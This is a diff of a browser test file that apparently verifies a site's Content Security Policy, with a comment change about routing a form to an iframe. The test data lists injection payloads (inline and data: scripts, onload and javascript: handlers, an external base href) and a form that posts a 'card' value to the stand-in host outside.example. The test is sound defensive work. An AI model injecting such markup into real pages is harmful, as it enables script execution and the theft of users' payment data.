@@ -3,7 +3,10 @@ import { expect, test } from "./support/test";
 
 const OUT = "https://outside.example";
 
-/** What an attacker might bring into a page if our own cleaning failed. */
+/**
+ * What an attacker might bring into a page if our own cleaning failed. The form is sent to a frame:
+ * Playwright now and then waits for the blocked navigation of the page itself, which never ends.
+ */
 const INJECTED = `
   <script>${RUN}</script>
   <script type="module">${RUN}</script>
@@ -11,11 +14,11 @@ const INJECTED = `
   <script src="data:text/javascript,${RUN}"></script>
   <img src="/favicon.svg" alt="" onload="${RUN}">
   <a id="trap" href="javascript:${RUN}">Trap</a>
-  <iframe srcdoc="<script>parent.${RUN}</script>"></iframe>
+  <iframe name="sink" srcdoc="<script>parent.${RUN}</script>"></iframe>
   <object data="${OUT}/x"></object>
   <base href="${OUT}/">
   <link rel="stylesheet" href="${OUT}/x.css">
-  <form id="form" action="${OUT}/"><input name="card" value="1"></form>`;
+  <form id="form" action="${OUT}/" target="sink"><input name="card" value="1"></form>`;
 
 // That the site itself needs nothing of this is proved by all other tests: a violation is an error
 // in the console, which fails them.
